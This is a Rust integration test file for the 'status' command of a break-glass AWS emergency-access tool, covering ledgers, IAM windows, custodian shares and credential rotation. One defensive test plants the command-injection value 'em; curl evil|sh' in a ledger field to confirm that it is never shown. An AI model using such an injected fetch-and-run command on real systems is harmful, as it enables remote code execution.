//! Tests of `status`, which reads the ledger and IAM. The command reports whether a window might be open, which session
//! opened the window, and when the window ends. The exit status shows whether something must be done.

use std::process::{Command, Output};

use rig::aws::Account;
use rig::pty::{End, Person, Signal};
use serde_json::Value;

use crate::two_of_two;

fn output_of(mut command: Command) -> (Option<i32>, Value, String) {
    let Output { status, stdout, stderr } = command.output().unwrap();
    let stdout = String::from_utf8(stdout).unwrap();
    let json = serde_json::from_str(&stdout).unwrap_or(Value::Null);
    (status.code(), json, format!("{stdout}{}", String::from_utf8_lossy(&stderr)))
}

#[test]
fn before_the_first_opening_status_shows_no_session() {
    let vault = two_of_two("never").all_plugged();
    let (code, _, said) = output_of(vault.site.command(&["status"]));
    assert!(code == Some(1) && said.contains("no session is recorded on this machine"), "{said}");
    assert!(
        said.contains("breakglass status VAULT --profile NAME (VAULT is the vault file; NAME is an"),
        "{said}"
    );
    let (code, json, said) = output_of(vault.site.command(&["status", "--json"]));
    assert_eq!(
        (code, &json["may_be_open"], &json["targets"]),
        (Some(1), &Value::Null, &Value::Array(Vec::new())),
        "{said}"
    );
    let (code, json, _) = output_of(vault.site.command(&["status", "prod.age", "--json"]));
    assert_eq!(code, Some(1), "without a record and without IAM, the state should be unknown");
    assert_eq!(json["targets"][0]["state"], "unknown");
    let next = json["targets"][0]["next"].as_str().unwrap();
    assert!(next.contains("breakglass status prod.age --profile NAME (NAME is an AWS profile"), "{json}");
    assert_eq!((&json["event"], &json["may_be_open"]), (&"status".into(), &Value::Null), "{json}");
}

#[test]
fn after_a_killed_run_status_shows_the_end_of_the_window() {
    let vault = two_of_two("killed-status").all_plugged();
    let (site, account) = (&vault.site, &vault.account);
    let mut person = vault.open("5m").again("more").hold().until_open();
    let (code, json, said) = output_of(site.command(&["status", "prod.age", "--json"]));
    assert_eq!(code, Some(10), "{said}");
    let target = &json["targets"][0];
    assert_eq!((&target["state"], &target["this_machine"]), (&"open".into(), &true.into()), "{json}");
    let until: String =
        target["until"].as_str().expect("the status should have the end of the window").to_owned();
    let gate = account.rest().gate.expect("the user should have a gate").to_string();
    assert!(gate.contains(&until), "the gate should end at {until}: {gate}");
    person.send_signal(Signal::SIGKILL);
    person.wait();
    let (code, _, said) = output_of(site.command(&["status"]));
    assert_eq!(code, Some(10), "{said}");
    for part in ["MAY BE OPEN until", "breakglass close", "aws iam attach-user-policy"] {
        assert!(said.contains(part), "{part}: {said}");
    }
    let mut person = site.person(&["close", "prod.age"]);
    site.quorum(&mut person, 2);
    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
    let (code, _, said) = output_of(site.command(&["status"]));
    assert_eq!(code, Some(1), "a recorded close does not show that access is closed now: {said}");
    assert!(
        said.contains("UNKNOWN; the last session recorded here") && said.contains("was recorded as closed"),
        "{said}"
    );
    let (code, json, said) = output_of(site.command(&["status", "prod.age", "--json"]));
    assert_eq!((code, &json["may_be_open"]), (Some(1), &Value::Null), "{said}");
    assert_eq!(json["targets"][0]["state"], "unknown", "{json}");
    assert_eq!(json["targets"][0]["recorded"]["end"], "closed", "{json}");
    assert!(json["targets"][0]["recorded"]["at"].is_string(), "{json}");
    let asked = ["status", "prod.age", "--profile", "oncall", "--json"];
    let (code, json, said) = output_of(site.with_profile("oncall", &account.closer, &asked));
    assert_eq!((code, &json["may_be_open"]), (Some(1), &false.into()), "{said}");
    assert_eq!(
        (&json["targets"][0]["state"], &json["targets"][0]["source"]),
        (&"closed".into(), &"iam".into()),
        "{json}"
    );
    assert!(said.contains("a task is overdue"), "the credentials must be rotated: {said}");
    assert!(json["readiness"]["overdue"][0].as_str().unwrap().contains("rotate"), "{json}");
    let (_, _, said) = output_of(site.command(&["status", "prod.age"]));
    assert!(said.contains("SPENT by session") && said.contains("OVERDUE      rotate"), "{said}");
}

#[test]
fn status_reads_the_ledgers_of_other_machines_and_reports_a_missing_ledger() {
    let vault = two_of_two("others-ledger").all_plugged();
    let site = &vault.site;
    let other = site.path("other");
    let arguments = ["open", "prod.age", "--for", "5m", "--reason", "INC-1", "--hold"];
    let mut command = site.command(&arguments);
    command.env("BREAKGLASS_STATE", &other);
    let mut person = Person::run(command);
    site.quorum(&mut person, 2);
    person.expect("left");
    let (code, json, _) = output_of(site.command(&["status", "prod.age", "--json"]));
    assert_eq!(
        (code, &json["may_be_open"]),
        (Some(1), &Value::Null),
        "this machine's ledger should have no window, so the state should be unknown: {json}"
    );
    site.configure(&serde_json::json!({"ledgers": [other.join("ledger.jsonl")]}));
    for arguments in [&["status", "prod.age", "--json"][..], &["status", "--json"]] {
        let (code, json, said) = output_of(site.command(arguments));
        assert_eq!(code, Some(10), "{said}");
        let target = &json["targets"][0];
        assert_eq!((&target["state"], &target["this_machine"]), (&"open".into(), &false.into()), "{json}");
    }
    person.type_raw(b"q");
    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
    let (code, json, _) = output_of(site.command(&["status", "prod.age", "--json"]));
    assert_eq!(code, Some(1), "{json}");
    assert!(
        json["readiness"]["spent"].is_object(),
        "the status should report credentials as spent if another machine opened them: {json}"
    );
    // The credentials are spent, so a second opening needs a reason.
    let refused =
        site.command(&["open", "prod.age", "--for", "5m", "--reason", "x", "--hold"]).output().unwrap();
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("are spent"));

    site.configure(&serde_json::json!({"ledgers": [site.path("gone.jsonl")]}));
    let (code, json, said) = output_of(site.command(&["status", "prod.age", "--json"]));
    assert!(code != Some(0) && said.contains("gone.jsonl"), "{json} {said}");
    std::fs::write(site.path(".config/breakglass/config.json"), "garbage").unwrap();
    let (code, _, said) = output_of(site.command(&["status", "prod.age"]));
    assert!(code != Some(0) && said.contains("config.json"), "{said}");
}

#[test]
fn a_hostile_ledger_cannot_put_shell_commands_on_the_screen() {
    let vault = two_of_two("hostile-ledger").all_plugged();
    let site = &vault.site;
    let mut person = vault.open("5m").again("more").hold().until_open();
    person.send_signal(Signal::SIGKILL);
    person.wait();
    let ledger = site.path("state/ledger.jsonl");
    let text = std::fs::read_to_string(&ledger).unwrap();
    std::fs::write(&ledger, text.replace("\"user\":\"emergency\"", "\"user\":\"em; curl evil|sh\"")).unwrap();
    let (code, _, said) = output_of(site.command(&["status"]));
    assert!(code == Some(6) && !said.contains("curl"), "{said}");
}

#[test]
fn status_counts_shares_that_were_given_without_an_opening() {
    let vault = two_of_two("in-vain").all_plugged();
    let vain = || {
        let arguments = ["open", "prod.age", "--for", "5m", "--reason", "x", "--wait", "3s", "--hold"];
        let mut person = vault.site.person(&arguments);
        vault.site.answer(&mut person, "alice");
        assert_eq!(person.wait(), End::Code(3), "{}", person.transcript());
    };
    vault.site.pull("bob");
    vain();
    vain();
    let (code, json, said) = output_of(vault.site.command(&["status", "prod.age", "--json"]));
    assert_eq!(code, Some(1), "no session was opened, so the state should be unknown: {said}");
    assert_eq!(
        (&json["readiness"]["released_shares"], &json["readiness"]["spent"]),
        (&2.into(), &Value::Null),
        "{json}"
    );
    let proofs = &json["readiness"]["custodians"];
    assert!(proofs[0]["last_used"].is_string() && proofs[1]["last_used"].is_null(), "{json}");
    let (_, _, said) = output_of(vault.site.command(&["status", "prod.age"]));
    assert!(said.contains("did not happen: 2") && said.contains("bob never"), "{said}");
}

#[test]
fn a_refused_second_opening_does_not_hide_the_first() {
    let vault = two_of_two("hidden").all_plugged();
    let (site, account) = (&vault.site, &vault.account);
    let mut person = vault.open("5m").again("more").hold().until_open();
    person.send_signal(Signal::SIGKILL);
    person.wait();
    let mut person = vault.open("1m").again("more").hold().by_quorum();
    assert_eq!(person.wait(), End::Code(5), "{}", person.transcript());
    let (code, json, said) = output_of(site.command(&["status", "--json"]));
    assert_eq!(code, Some(10), "{said}");
    assert_eq!(json["targets"][0]["state"], "open", "{json}");
    let asked = site.with_profile(
        "oncall",
        &account.closer,
        &["status", "prod.age", "--profile", "oncall", "--json"],
    );
    let (code, json, said) = output_of(asked);
    assert!(
        code == Some(10) && json["targets"][0]["this_machine"] == true,
        "the window should be shown as opened by this machine: {said}"
    );
    let close = site.with_profile("oncall", &account.closer, &["close", "prod.age", "--profile", "oncall"]);
    assert_eq!(output_of(close).0, Some(0));
    let (code, _, said) = output_of(site.command(&["status"]));
    assert_eq!(code, Some(1), "{said}");
    let status = site.with_profile("oncall", &account.closer, &["status", "--profile", "oncall"]);
    assert_eq!(output_of(status).0, Some(0), "IAM shows the user at rest");
}

/// A recorded close says nothing about a window that another machine has opened since, whatever IAM answers.
#[test]
fn a_recorded_close_is_never_the_state() {
    let vault = two_of_two("past-close").all_plugged();
    let (site, account) = (&vault.site, &vault.account);
    let mut person = vault.open("5m").again("more").hold().until_open();
    person.type_raw(b"q");
    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
    // Another machine opens a window now; no ledger of this machine shows it.
    let now = account.now();
    account.put_window("Sfeedfacefeedface", now - 60, now + 600);
    let state = |json: &Value| json["targets"][0]["state"].as_str().unwrap_or_default().to_owned();
    let ask = |more: &[&str]| {
        site.with_profile("oncall", &account.closer, &[&["status", "prod.age"], more].concat())
    };
    for profile in [&[][..], &["--profile", "oncall"]] {
        let mut silent = ask(&[profile, &["--json"]].concat());
        silent.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
        let (code, json, said) = output_of(silent);
        assert_eq!((code, state(&json)), (Some(1), "unknown".into()), "{said}");
        assert_eq!(
            (&json["may_be_open"], &json["targets"][0]["may_be_open"]),
            (&Value::Null, &Value::Null),
            "{json}"
        );
        assert!(json["targets"][0]["next"].is_string(), "{json}");
    }
    // The opener is not allowed to read the user's keys.
    let denied = ["status", "prod.age", "--profile", "oncall", "--json"];
    let (code, json, said) = output_of(site.with_profile("oncall", &account.emergency, &denied));
    assert_eq!((code, state(&json)), (Some(1), "unknown".into()), "{said}");
    assert!(said.contains("iam:ListAccessKeys"), "{said}");
    let (code, json, said) = output_of(ask(&["--profile", "oncall", "--json"]));
    assert_eq!((code, state(&json)), (Some(10), "open".into()), "{said}");
}

#[test]
fn status_finds_in_iam_a_window_that_another_machine_opened() {
    let vault = two_of_two("dead-laptop").all_plugged();
    let (site, account) = (&vault.site, &vault.account);
    let mut person = vault.open("5m").again("more").hold().until_open();
    person.send_signal(Signal::SIGKILL);
    person.wait();
    std::fs::remove_dir_all(site.path("state")).unwrap();
    let (code, _, said) = output_of(site.command(&["status", "prod.age"]));
    assert_eq!(code, Some(1), "if neither a ledger nor IAM is read, the state should be unknown: {said}");
    assert!(said.contains("UNKNOWN") && said.contains("breakglass status prod.age --profile NAME"), "{said}");
    let ask = |json: &[&str]| {
        let arguments = [&["status", "prod.age", "--profile", "oncall"], json].concat();
        output_of(site.with_profile("oncall", &account.closer, &arguments))
    };
    let (code, json, said) = ask(&["--json"]);
    assert_eq!(code, Some(10), "{said}");
    let target = &json["targets"][0];
    assert_eq!((&target["source"], &target["this_machine"]), (&"iam".into(), &false.into()), "{json}");
    assert!(target["session"].is_string() && target["until"].is_string(), "{json}");
    account.put_to_rest();
    let (code, _, said) = ask(&[]);
    assert!(code == Some(0) && said.contains("closed (from IAM)"), "{said}");
}

#[test]
fn an_untidy_user_without_an_open_window_is_reported_as_not_open() {
    let vault = two_of_two("untidy").all_plugged();
    let (site, account) = (&vault.site, &vault.account);
    let now = account.now();
    account.put_window("Sfeedfacefeedface", now - 600, now - 60);
    let arguments = ["status", "prod.age", "--profile", "oncall"];
    let (code, _, said) = output_of(site.with_profile("oncall", &account.closer, &arguments));
    assert!(code == Some(1) && said.contains("NOT AT REST"), "{said}");
    // The test writes a gate without an end. The program never writes such a gate, so it does not know when the window
    // ends.
    let anything = serde_json::json!({"Version": "2012-10-17", "Statement": [
        {"Sid": "All", "Effect": "Allow", "Action": "s3:*", "Resource": "*"}]});
    let gate = serde_json::json!({"UserName": account.user, "PolicyName": rig::aws::GATE,
        "PolicyDocument": anything.to_string()});
    account.root("put_user_policy", gate);
    let (code, _, said) = output_of(site.with_profile("oncall", &account.closer, &arguments));
    assert!(code == Some(10) && said.contains("MAY BE OPEN"), "{said}");
}

#[test]
fn a_profile_of_another_account_or_an_unknown_profile_is_an_error() {
    let vault = two_of_two("other-profile").all_plugged();
    let (aws, site) = (&vault.aws, &vault.site);
    let other: Account = aws.seed("other");
    let arguments = ["status", "prod.age", "--profile", "oncall"];
    let (code, _, said) = output_of(site.with_profile("oncall", &other.closer, &arguments));
    assert!(code == Some(5) && said.contains(&other.id), "{said}");
    let arguments = ["status", "prod.age", "--profile", "missing"];
    let (code, _, said) = output_of(site.with_profile("oncall", &other.closer, &arguments));
    assert!(code == Some(2) && said.contains("profile missing"), "{said}");
}

#[test]
fn status_works_with_the_ledger_alone_and_with_iam_alone() {
    let vault = two_of_two("stand-in").all_plugged();
    let (site, account) = (&vault.site, &vault.account);
    let mut person = vault.open("5m").again("more").hold().until_open();
    person.send_signal(Signal::SIGKILL);
    person.wait();
    let ask = || site.with_profile("oncall", &account.closer, &["status", "prod.age", "--profile", "oncall"]);
    let mut alone = ask();
    alone.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
    let (code, _, said) = output_of(alone);
    assert!(
        code == Some(10) && said.contains("was not reached") && said.contains("IAM does not show the state"),
        "{said}"
    );
    let ledger = site.path("state/ledger.jsonl");
    let text = std::fs::read_to_string(&ledger).unwrap();
    std::fs::write(&ledger, text.replacen("INC-1", "INC-2", 1)).unwrap();
    let (code, _, said) = output_of(ask());
    assert!(code == Some(10) && said.contains("does not chain") && said.contains("(from IAM)"), "{said}");
    account.put_to_rest();
    let (code, _, said) = output_of(ask());
    assert!(code == Some(6), "the damaged ledger should be reported although IAM was read: {said}");
    let (code, _, said) = output_of(site.command(&["status"]));
    assert!(code == Some(6) && !said.contains("no session"), "{said}");
}

#[test]
fn a_failed_write_to_standard_output_is_an_error() {
    let vault = two_of_two("full").all_plugged();
    let mut command = vault.site.command(&["status", "prod.age", "--json"]);
    command.stdout(std::fs::File::options().write(true).open("/dev/full").unwrap());
    assert_eq!(command.output().unwrap().status.code(), Some(1));
}

#[test]
fn the_ledger_records_the_reason_of_a_second_opening() {
    let vault = two_of_two("again").all_plugged();
    let (site, account) = (&vault.site, &vault.account);
    let mut person = vault.open("5m").again("more").hold().until_open();
    person.type_raw(b"q");
    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
    let arguments =
        ["open", "prod.age", "--for", "5m", "--reason", "INC-1", "--again", "not done yet", "--hold"];
    let mut person = site.person(&arguments);
    site.quorum(&mut person, 2);
    person.expect("left");
    person.type_raw(b"q");
    assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
    let ledger = std::fs::read_to_string(site.path("state/ledger.jsonl")).unwrap();
    assert!(ledger.contains("\"again\":\"not done yet\""), "{ledger}");
    assert!(account.rest().at_rest());
    // An opening that exceeds the vault's `max_window` is refused.
    let long = ["open", "prod.age", "--for", "5h", "--reason", "x", "--again", "y", "--hold"];
    assert_eq!(site.command(&long).output().unwrap().status.code(), Some(2));
}
